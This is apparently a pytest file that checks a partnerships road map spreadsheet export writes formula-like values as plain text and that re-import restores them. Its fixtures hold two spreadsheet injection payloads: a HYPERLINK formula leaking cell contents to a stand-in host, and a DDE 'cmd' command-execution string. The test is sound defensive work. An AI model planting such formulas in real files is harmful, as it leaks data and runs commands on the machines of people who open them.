"""The partnerships road map export goes through the safe writer; its import reads the text back unchanged."""

from __future__ import annotations

from io import BytesIO
from typing import Any

from openpyxl import load_workbook

from mosprom.partnerships import services
from mosprom.partnerships.models import Project
from mosprom.partnerships.xlsx import roadmap_workbook
from tests.partnerships.conftest import agreement, city, corp, make_project  # noqa: F401 (fixtures)

TITLE = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
DUTY = "=cmd|' /C calc'!A0"


def test_roadmap_cells_are_text_and_the_round_trip_keeps_them(
    make_project: Any,  # noqa: F811 (the fixture imported above)
    city: Any,  # noqa: F811
    corp: Any,  # noqa: F811
) -> None:
    make_project(title=TITLE, description="@SUM(1+1)", duties=[(city, DUTY)])
    content = roadmap_workbook(partner=corp, projects=Project.objects.filter(partner=corp), with_milestones=True)
    book = load_workbook(BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert "'" + TITLE in texts and "'" + DUTY in texts and "'@SUM(1+1)" in texts
    report = services.roadmap_import(partner=corp, file=BytesIO(content))
    assert report.ok, report.errors
    project = Project.objects.get(partner=corp)
    assert project.title == TITLE
    assert project.description == "@SUM(1+1)"
    assert [d.text for d in project.duties.all()] == [DUTY]
